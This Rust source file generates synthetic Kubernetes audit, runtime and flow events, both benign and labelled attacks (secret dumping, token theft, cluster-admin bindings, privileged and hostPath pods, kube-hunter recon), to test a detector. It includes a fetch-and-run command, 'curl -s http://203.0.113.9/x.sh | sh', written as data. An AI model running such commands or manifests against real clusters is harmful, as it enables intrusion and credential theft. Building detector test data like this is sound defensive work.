//! What happens after the learning period: benign novelties (a new image tag, an on-call
//! exec, a new service-to-service connection) and the attacks, modelled on Stratus Red
//! Team's Kubernetes techniques and kube-hunter-style reconnaissance.

use super::cluster::{PROFILES, SA_GROUPS, USER_GROUPS};
use super::{Call, DAY, Gen, HOUR, Item, Kind, SUSPICIOUS_CSR, T0, attack, pod_spec, rfc3339};
use serde_json::{Value, json};

/// Adds the benign novelties and the attacks to `g`.
pub(super) fn inject(g: &mut Gen) {
    let day = |d: i64, h: i64| T0 + d * DAY + h * HOUR;
    let deployer = &PROFILES[4];
    let call = |user: &'static str,
                groups: &'static [&'static str],
                ip: &'static str,
                agent: &'static str,
                verb: &'static str,
                group: &'static str,
                resource: &'static str,
                subresource: &'static str,
                namespace: &'static str,
                name: &'static str,
                code: u16,
                request: Option<Value>| Call {
        user,
        groups,
        ip,
        agent,
        verb,
        group,
        resource,
        subresource,
        namespace,
        name,
        code,
        request,
    };

    // --- Benign novelties (after the learning period) ---
    // A new image tag rolled out by the deployer, then its pods.
    let t = day(3, 10);
    let new_image = "registry.example.com/shop/frontend:1.4.1";
    let item = g.audit(
        t,
        &call(deployer.user, SA_GROUPS, deployer.ip, deployer.agent, "patch", "apps", "deployments", "", "shop", "frontend", 200,
            Some(json!({"spec": {"template": {"spec": pod_spec(new_image, json!({}), json!([]), false)}}}))),
    );
    item.benign_novelty = true;
    item.dont_care.insert("novel_image");
    let item = g.pod_create(t + 30, "shop", new_image);
    item.benign_novelty = true;
    item.dont_care.insert("novel_image");
    // The on-call engineer execs into the cart pod during an incident.
    let item = g.audit(
        day(4, 3),
        &call(
            "bob@example.com",
            PROFILES[6].groups,
            PROFILES[6].ip,
            PROFILES[6].agent,
            "create",
            "",
            "pods",
            "exec",
            "shop",
            "cart-5c8d7b9f4-q7w2e",
            101,
            None,
        ),
    );
    item.benign_novelty = true;
    item.deserved
        .extend(["pod_exec", "novel_exec", "novel_api_call"]);
    // A release makes the frontend call the payments API.
    let item = g.flow(
        day(3, 12),
        "shop",
        "frontend",
        "payments",
        "api",
        "10.96.1.40",
        8443,
    );
    item.benign_novelty = true;
    item.deserved.insert("novel_connection");

    // --- Attacks ---
    // Stratus k8s.credential-access.dump-secrets: the deployer lists every secret.
    let item = g.audit(
        day(4, 9),
        &call(
            deployer.user,
            SA_GROUPS,
            deployer.ip,
            deployer.agent,
            "list",
            "",
            "secrets",
            "",
            "",
            "",
            200,
            None,
        ),
    );
    attack(item, "dump-secrets", &["novel_api_call"]);
    let item = g.audit(
        day(4, 9) + 20,
        &call(
            deployer.user,
            SA_GROUPS,
            deployer.ip,
            deployer.agent,
            "get",
            "",
            "secrets",
            "",
            "kube-system",
            "bootstrap-token-abcdef",
            200,
            None,
        ),
    );
    attack(item, "dump-secrets", &["novel_api_call"]);

    // Stratus k8s.credential-access.steal-serviceaccount-token: alice mints a
    // year-long token for a kube-system service account.
    let item = g.audit(
        day(4, 11),
        &call("alice@example.com", USER_GROUPS, PROFILES[5].ip, PROFILES[5].agent, "create", "", "serviceaccounts", "token", "kube-system", "clusterrole-aggregation-controller", 201,
            Some(json!({"kind": "TokenRequest", "apiVersion": "authentication.k8s.io/v1", "spec": {"audiences": ["https://kubernetes.default.svc"], "expirationSeconds": 31_536_000}}))),
    );
    attack(
        item,
        "steal-serviceaccount-token",
        &["token_request", "novel_api_call"],
    );

    // Stratus k8s.persistence.create-admin-clusterrole (+ binding to cluster-admin).
    let item = g.audit(
        day(4, 15),
        &call(deployer.user, SA_GROUPS, deployer.ip, deployer.agent, "create", "rbac.authorization.k8s.io", "clusterroles", "", "", "ci-helper", 201,
            Some(json!({"kind": "ClusterRole", "apiVersion": "rbac.authorization.k8s.io/v1", "metadata": {"name": "ci-helper"}, "rules": [{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}]}))),
    );
    attack(
        item,
        "create-admin-clusterrole",
        &["rbac_wildcard_role", "novel_api_call"],
    );
    let item = g.audit(
        day(4, 15) + 40,
        &call(deployer.user, SA_GROUPS, deployer.ip, deployer.agent, "create", "rbac.authorization.k8s.io", "clusterrolebindings", "", "", "ci-helper-admin", 201,
            Some(json!({"kind": "ClusterRoleBinding", "apiVersion": "rbac.authorization.k8s.io/v1", "metadata": {"name": "ci-helper-admin"}, "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"}, "subjects": [{"kind": "ServiceAccount", "name": "backdoor", "namespace": "ci"}]}))),
    );
    attack(
        item,
        "create-admin-clusterrole",
        &["cluster_admin_binding", "novel_api_call"],
    );

    // Stratus k8s.privilege-escalation.privileged-pod.
    let item = g.audit(
        day(5, 2),
        &call(deployer.user, SA_GROUPS, deployer.ip, deployer.agent, "create", "", "pods", "", "shop", "debug-tools", 201,
            Some(json!({"kind": "Pod", "apiVersion": "v1", "metadata": {"name": "debug-tools", "namespace": "shop"},
                "spec": pod_spec("docker.io/library/alpine:3.19", json!({"securityContext": {"privileged": true}}), json!([]), true)}))),
    );
    attack(
        item,
        "privileged-pod",
        &["privileged_pod", "novel_api_call", "novel_image"],
    );

    // Stratus k8s.privilege-escalation.hostpath-volume: the node's root in a pod.
    let item = g.audit(
        day(5, 4),
        &call(deployer.user, SA_GROUPS, deployer.ip, deployer.agent, "create", "", "pods", "", "payments", "node-debug", 201,
            Some(json!({"kind": "Pod", "apiVersion": "v1", "metadata": {"name": "node-debug", "namespace": "payments"},
                "spec": pod_spec("docker.io/library/busybox:1.36", json!({"volumeMounts": [{"name": "host", "mountPath": "/host"}]}), json!([{"name": "host", "hostPath": {"path": "/"}}]), false)}))),
    );
    attack(
        item,
        "hostpath-volume",
        &["sensitive_mount", "novel_api_call", "novel_image"],
    );

    // Stratus k8s.privilege-escalation.nodes-proxy: the kubelet API through the API server.
    let prom = &PROFILES[0];
    let item = g.audit(
        day(5, 8),
        &call(
            prom.user, SA_GROUPS, prom.ip, prom.agent, "get", "", "nodes", "proxy", "", "node-1",
            200, None,
        ),
    );
    attack(item, "nodes-proxy", &["nodes_proxy", "novel_api_call"]);

    // Stratus k8s.persistence.create-client-certificate: a CSR for system:masters,
    // approved by the same user.
    let item = g.audit(
        day(5, 12),
        &call("alice@example.com", USER_GROUPS, PROFILES[5].ip, PROFILES[5].agent, "create", "certificates.k8s.io", "certificatesigningrequests", "", "", "alice-tmp", 201,
            Some(json!({"kind": "CertificateSigningRequest", "apiVersion": "certificates.k8s.io/v1", "metadata": {"name": "alice-tmp"},
                "spec": {"request": SUSPICIOUS_CSR, "signerName": "kubernetes.io/kube-apiserver-client", "usages": ["client auth"]}}))),
    );
    attack(
        item,
        "create-client-certificate",
        &["suspicious_csr", "novel_api_call"],
    );
    let item = g.audit(
        day(5, 12) + 60,
        &call("alice@example.com", USER_GROUPS, PROFILES[5].ip, PROFILES[5].agent, "update", "certificates.k8s.io", "certificatesigningrequests", "approval", "", "alice-tmp", 200,
            Some(json!({"kind": "CertificateSigningRequest", "apiVersion": "certificates.k8s.io/v1", "metadata": {"name": "alice-tmp"},
                "spec": {"request": SUSPICIOUS_CSR, "signerName": "kubernetes.io/kube-apiserver-client"},
                "status": {"conditions": [{"type": "Approved", "status": "True", "reason": "manual"}]}}))),
    );
    attack(
        item,
        "create-client-certificate",
        &["suspicious_csr", "novel_api_call"],
    );

    // Exec into a payments pod by a developer who never did that (Stratus-style
    // lateral movement), over the websocket form (verb get).
    let item = g.audit(
        day(5, 20),
        &call(
            "alice@example.com",
            USER_GROUPS,
            PROFILES[5].ip,
            PROFILES[5].agent,
            "get",
            "",
            "pods",
            "exec",
            "payments",
            "api-6f7c9d8b7-k2j4h",
            101,
            None,
        ),
    );
    attack(
        item,
        "exec-into-pod",
        &["pod_exec", "novel_exec", "novel_api_call"],
    );

    // kube-hunter-style reconnaissance with a stolen frontend token from outside the
    // cluster: many denied calls, a new source address and user agent.
    let frontend = &PROFILES[1];
    let targets: &[(&str, &str, &str)] = &[
        ("list", "", "secrets"),
        ("list", "", "pods"),
        ("list", "", "nodes"),
        ("list", "rbac.authorization.k8s.io", "clusterroles"),
        ("list", "rbac.authorization.k8s.io", "clusterrolebindings"),
        ("list", "", "serviceaccounts"),
        ("list", "apps", "deployments"),
        ("list", "", "configmaps"),
        ("create", "", "pods"),
        ("list", "", "namespaces"),
        ("get", "", "nodes"),
        ("list", "batch", "jobs"),
    ];
    for (i, (verb, group, resource)) in targets.iter().enumerate() {
        let t = day(6, 1) + i as i64 * 3;
        let item = g.audit(
            t,
            &call(
                frontend.user,
                SA_GROUPS,
                "203.0.113.50",
                "kube-hunter/0.6.8",
                verb,
                group,
                resource,
                "",
                "",
                "",
                403,
                None,
            ),
        );
        attack(item, "recon-stolen-token", &["rbac_burst_episode"]);
        if i == 0 {
            item.deserved.insert("novel_source");
        }
    }
    // Anonymous probing: the version endpoint (fine), secrets (denied), and pods (a
    // misconfigured binding allows it).
    fn anon<'g>(g: &'g mut Gen, t: i64, resource: &'static str, code: u16) -> &'g mut Item {
        let id = g.id();
        let event = json!({
            "kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "Metadata", "auditID": id,
            "stage": "ResponseComplete", "requestURI": if resource.is_empty() { "/version".to_string() } else { format!("/api/v1/{resource}") },
            "verb": if resource.is_empty() { "get" } else { "list" },
            "user": {"username": "system:anonymous", "groups": ["system:unauthenticated"]},
            "sourceIPs": ["203.0.113.51"], "userAgent": "kube-hunter/0.6.8",
            "objectRef": if resource.is_empty() { Value::Null } else { json!({"resource": resource, "apiVersion": "v1"}) },
            "responseStatus": {"metadata": {}, "code": code},
            "requestReceivedTimestamp": rfc3339(t, 0), "stageTimestamp": rfc3339(t, 0),
            "annotations": {"authorization.k8s.io/decision": if code == 403 { "forbid" } else { "allow" }},
        });
        g.push(Kind::Audit, t, id, event)
    }
    let item = anon(g, day(6, 2), "", 200);
    item.attack = Some("recon-anonymous");
    item.dont_care.extend(["novel_api_call", "novel_source"]);
    let item = anon(g, day(6, 2) + 5, "secrets", 403);
    attack(item, "recon-anonymous", &["rbac_denied"]);
    item.dont_care.extend(["novel_source"]);
    let item = anon(g, day(6, 2) + 10, "pods", 200);
    attack(item, "recon-anonymous", &["anonymous_access"]);
    item.dont_care.extend(["novel_api_call", "novel_source"]);

    // A compromised frontend container: a shell, a download, a connection out.
    let item = g.runtime(
        day(6, 8),
        0,
        "/bin/sh",
        "-c curl -s http://203.0.113.9/x.sh | sh",
    );
    attack(item, "container-compromise", &["novel_process"]);
    let item = g.runtime(
        day(6, 8) + 1,
        0,
        "/usr/bin/curl",
        "-s http://203.0.113.9/x.sh",
    );
    attack(item, "container-compromise", &["novel_process"]);
    let item = g.flow(day(6, 8) + 2, "shop", "frontend", "", "", "203.0.113.9", 80);
    attack(item, "container-compromise", &["novel_connection"]);
}
